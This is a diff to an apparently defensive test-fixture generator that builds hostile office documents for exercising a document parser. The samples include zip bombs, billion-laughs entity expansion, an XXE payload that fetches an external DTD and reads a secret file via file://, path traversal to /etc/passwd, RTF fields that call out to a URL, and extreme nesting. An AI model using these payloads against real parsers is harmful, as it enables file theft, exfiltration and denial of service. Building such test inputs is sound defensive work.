@@ -33,15 +33,9 @@ def document(inner: str, declared: str = "", encoding: str = "utf-8") -> bytes:
     return f'<?xml version="1.0" encoding="{encoding}"?>{declared}<w:document {_W}><w:body>{inner}</w:body></w:document>'.encode(encoding)  # fmt: skip
 
 
-def _bomb(where: Where) -> bytes:
-    data = swollen(1500, b" ", raw=True)
-    member = Member(b"word/document.xml", data, 8, size=1500 << 20)
+def _bomb(size: int) -> bytes:
+    member = Member(b"word/document.xml", swollen(1500, b" ", raw=True), 8, size=size)
     return raw_zip([Member(b"[Content_Types].xml", b"<Types/>"), member])
-
-
-def _bomb_that_lies(where: Where) -> bytes:
-    data = swollen(1500, b" ", raw=True)
-    return raw_zip([Member(b"[Content_Types].xml", b"<Types/>"), Member(b"word/document.xml", data, 8, size=4000)])
 
 
 def _laughs(declared_after: int = 0) -> str:
@@ -51,9 +45,8 @@ def _laughs(declared_after: int = 0) -> str:
 
 
 def _outside(where: Where) -> str:
-    return (
-        f'<!DOCTYPE x [<!ENTITY % dtd SYSTEM "{where.url}/a.dtd"> %dtd; <!ENTITY xxe SYSTEM "file://{where.secret}">]>'
-    )
+    entity = f'<!ENTITY xxe SYSTEM "file://{where.secret}">'
+    return f'<!DOCTYPE x [<!ENTITY % dtd SYSTEM "{where.url}/a.dtd"> %dtd; {entity}]>'
 
 
 def _calls_home(where: Where, chunk: str = "") -> bytes:
@@ -72,33 +65,20 @@ def _calls_home(where: Where, chunk: str = "") -> bytes:
 
 
 def _climbs(where: Where) -> bytes:
+    targets = {
+        "styles": "../../../../../../etc/passwd",
+        "numbering": f"file://{where.secret}",
+        "header": "document.xml",
+    }
     related = "".join(
-        f'<Relationship Id="{kind}" Type="{_RELATED}/{kind}" Target="{target}"/>'
-        for kind, target in (
-            ("styles", "../../../../../../etc/passwd"),
-            ("numbering", f"file://{where.secret}"),
-            ("header", "document.xml"),
-        )
+        f'<Relationship Id="{kind}" Type="{_RELATED}/{kind}" Target="{target}"/>' for kind, target in targets.items()
     )
     inner = body(62) + f'<w:sectPr><w:headerReference xmlns:r="{_RELATED}" w:type="default" r:id="header"/></w:sectPr>'
     return _with_main(document(inner), related)
 
 
-def _nested_tables(where: Where) -> bytes:
-    depth = 20_000
-    cell = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
-    return _with_main(document(cell[0] * depth + p("x") + cell[1] * depth))
-
-
-def _deep(where: Where) -> bytes:
-    depth = 150_000
-    return _with_main(document("<w:ins>" * depth + "</w:ins>" * depth))
-
-
-def _deep_runs(where: Where) -> bytes:
-    depth = 100_000
-    content = "<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth
-    return _with_main(document(f"<w:p>{content}</w:p>"))
+def _nested(opened: str, closed: str, depth: int, inner: str = "") -> bytes:
+    return _with_main(document(opened * depth + inner + closed * depth))
 
 
 def _wide_cells(where: Where) -> bytes:
@@ -122,14 +102,6 @@ def _styles_in_a_circle(where: Where) -> bytes:
     return package(body(65) + p("x", style="s1"), styles=ring)
 
 
-def _one_word(where: Where) -> bytes:
-    return _with_main(document(body(66) + p("x" * 9_000_000)))
-
-
-def _many_paragraphs(where: Where) -> bytes:
-    return _with_main(document("<w:p/>" * 1_500_000))
-
-
 def _odt(content: bytes, size: int | None = None, method: int = 0) -> bytes:
     kind = Member(b"mimetype", b"application/vnd.oasis.opendocument.text")
     inside = Member(b"content.xml", content, method, size=size)
@@ -146,17 +118,6 @@ def _odt_calls_home(where: Where) -> bytes:
     text = f"<office:text>{lines}<text:p>{frame}</text:p></office:text>"
     content = f"<office:body>{text}</office:body>"
     return _odt(f"<office:document-content {names}>{content}</office:document-content>".encode())
-
-
-def _rtf(inner: bytes) -> bytes:
-    return b"{\\rtf1\\ansi " + inner + b"}"
-
-
-def _doc(change: dict[int, bytes]) -> bytes:
-    data = bytearray(_DOC.read_bytes())
-    for place, value in change.items():
-        data[place : place + len(value)] = value
-    return bytes(data)
 
 
 def _fib(where: Where) -> bytes:
@@ -176,7 +137,8 @@ def _fat_in_a_circle(where: Where) -> bytes:
 
 
 def _difat_in_a_circle(where: Where) -> bytes:
-    return _doc({68: struct.pack("<II", 0, 0xFFFF), 72: struct.pack("<I", 0xFFFFFF)})
+    data = _DOC.read_bytes()
+    return data[:68] + struct.pack("<II", 0, 0xFFFFFF) + data[76:]
 
 
 def _tree_in_a_circle(where: Where) -> bytes:
@@ -189,8 +151,8 @@ def _tree_in_a_circle(where: Where) -> bytes:
 
 
 BAD = [
-    Bad("word-bom.docx", "told", _bomb),
-    Bad("word-bom-noi-doi.docx", "told", _bomb_that_lies),
+    Bad("word-bom.docx", "told", lambda where: _bomb(1500 << 20)),
+    Bad("word-bom-noi-doi.docx", "told", lambda where: _bomb(4000)),
     Bad("word-cat-cut.docx", "told", lambda where: package(body(60))[:700]),
     Bad("word-ty-tieng-cuoi.docx", "told", lambda where: _with_main(document(p("<w:r><w:t>&a9;</w:t></w:r>"), _laughs()))),
     Bad("word-ty-tieng-cuoi-xa.docx", "told", lambda where: _with_main(document(p("<w:r><w:t>&a9;</w:t></w:r>"), _laughs(9000)))),
@@ -200,21 +162,21 @@ BAD = [
     Bad("word-goi-ra-ngoai.docx", "read", _calls_home),
     Bad("word-phan-o-ngoai.docx", "told", lambda where: _calls_home(where, '<w:altChunk {} r:id="raFChunk"/>')),
     Bad("word-leo-ra.docx", "either", _climbs),
-    Bad("word-bang-long-nhau.docx", "told", _nested_tables),
-    Bad("word-long-150000-tang.docx", "told", _deep),
-    Bad("word-khung-long-nhau.docx", "told", _deep_runs),
+    Bad("word-bang-long-nhau.docx", "told", lambda where: _nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 20_000, p("x"))),
+    Bad("word-long-150000-tang.docx", "told", lambda where: _nested("<w:ins>", "</w:ins>", 150_000)),
+    Bad("word-khung-long-nhau.docx", "told", lambda where: _with_main(document(f"<w:p>{'<w:sdt><w:sdtContent>' * 100_000}{'</w:sdtContent></w:sdt>' * 100_000}</w:p>"))),
     Bad("word-o-rong-2-ty-cot.docx", "either", _wide_cells),
     Bad("word-so-thu-tu-dien.docx", "either", _wild_numbers),
     Bad("word-kieu-vong-tron.docx", "read", _styles_in_a_circle),
-    Bad("word-chu-9-trieu.docx", "either", _one_word),
-    Bad("word-1-trieu-doan.docx", "told", _many_paragraphs),
+    Bad("word-chu-9-trieu.docx", "either", lambda where: _with_main(document(body(66) + p("x" * 9_000_000)))),
+    Bad("word-1-trieu-doan.docx", "told", lambda where: _with_main(document("<w:p/>" * 1_500_000))),
     Bad("word-khong-than.docx", "told", lambda where: zipped({"word/khac.xml": "<a/>"})),
     Bad("odt-bom.odt", "told", lambda where: _odt(swollen(1500, b" ", raw=True), 1500 << 20, 8)),
     Bad("odt-ty-tieng-cuoi.odt", "told", lambda where: _odt(f"{_laughs()}<x>&a9;</x>".encode())),
     Bad("odt-goi-ra-ngoai.odt", "either", _odt_calls_home),
-    Bad("rtf-100000-ngoac.rtf", "told", lambda where: _rtf(b"{" * 100_000 + b"x" + b"}" * 100_000)),
-    Bad("rtf-noi-doi.rtf", "told", lambda where: _rtf(b"{\\*\\objdata " + b"ab" * 50 + b"}\\bin2147483647 abc")),
-    Bad("rtf-goi-ra-ngoai.rtf", "either", lambda where: _rtf(b'{\\*\\template %s/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "%s/a.png"}}abc' % ((where.url.encode(),) * 2))),
+    Bad("rtf-100000-ngoac.rtf", "told", lambda where: b"{\\rtf1\\ansi " + b"{" * 100_000 + b"x" + b"}" * 100_001),
+    Bad("rtf-noi-doi.rtf", "told", lambda where: b"{\\rtf1\\ansi {\\*\\objdata " + b"ab" * 50 + b"}\\bin2147483647 abc}"),
+    Bad("rtf-goi-ra-ngoai.rtf", "either", lambda where: b'{\\rtf1\\ansi {\\*\\template %s/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "%s/a.png"}}abc}' % ((where.url.encode(),) * 2)),
     Bad("doc-sai-fib.doc", "told", _fib),
     Bad("doc-fat-vong.doc", "told", _fat_in_a_circle),
     Bad("doc-difat-vong.doc", "either", _difat_in_a_circle),
